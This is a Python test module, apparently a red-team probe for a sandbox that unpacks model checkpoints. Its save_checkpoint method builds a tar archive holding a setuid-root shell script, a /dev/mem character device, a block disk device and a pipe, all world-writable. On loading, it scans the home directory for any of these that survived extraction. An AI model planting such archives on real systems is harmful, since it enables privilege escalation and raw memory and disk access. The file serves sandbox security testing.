"""Hands over a checkpoint with devices, pipes, programs with the rights of root, and owners that are others."""

import os
import stat

from aim import HOME, attempt, hand_over, loot, member

from run import ZEWDPCBaseRun

CHARACTER, BLOCK, PIPE = b"3", b"4", b"6"


class Attack(ZEWDPCBaseRun):
    def save_checkpoint(self, path):
        tar = member("checkpoint/pipe", type=PIPE, mode=0o666)
        tar += member("checkpoint/root", b"#!/bin/sh\nid\n", mode=0o6755, uid=0, gid=0, uname="root", gname="root")
        tar += member("checkpoint/memory", type=CHARACTER, devmajor=1, devminor=1, mode=0o666)
        tar += member("checkpoint/disk", type=BLOCK, devmajor=254, devminor=0, mode=0o666)
        hand_over(tar + bytes(1024))

    def load_checkpoint(self, path):
        self.look()

    def purchase_phase(self, unlabelled_dataset):
        self.look()

    def look(self):
        for folder, _, names in os.walk(HOME):
            for name in names:
                state = attempt(os.lstat, os.path.join(folder, name))
                if state is None:
                    continue
                if stat.S_ISBLK(state.st_mode) or stat.S_ISCHR(state.st_mode):
                    loot(f"the device {name}")
                if state.st_mode & stat.S_ISUID and state.st_uid != os.getuid():
                    loot(f"the program {name} of user {state.st_uid}")
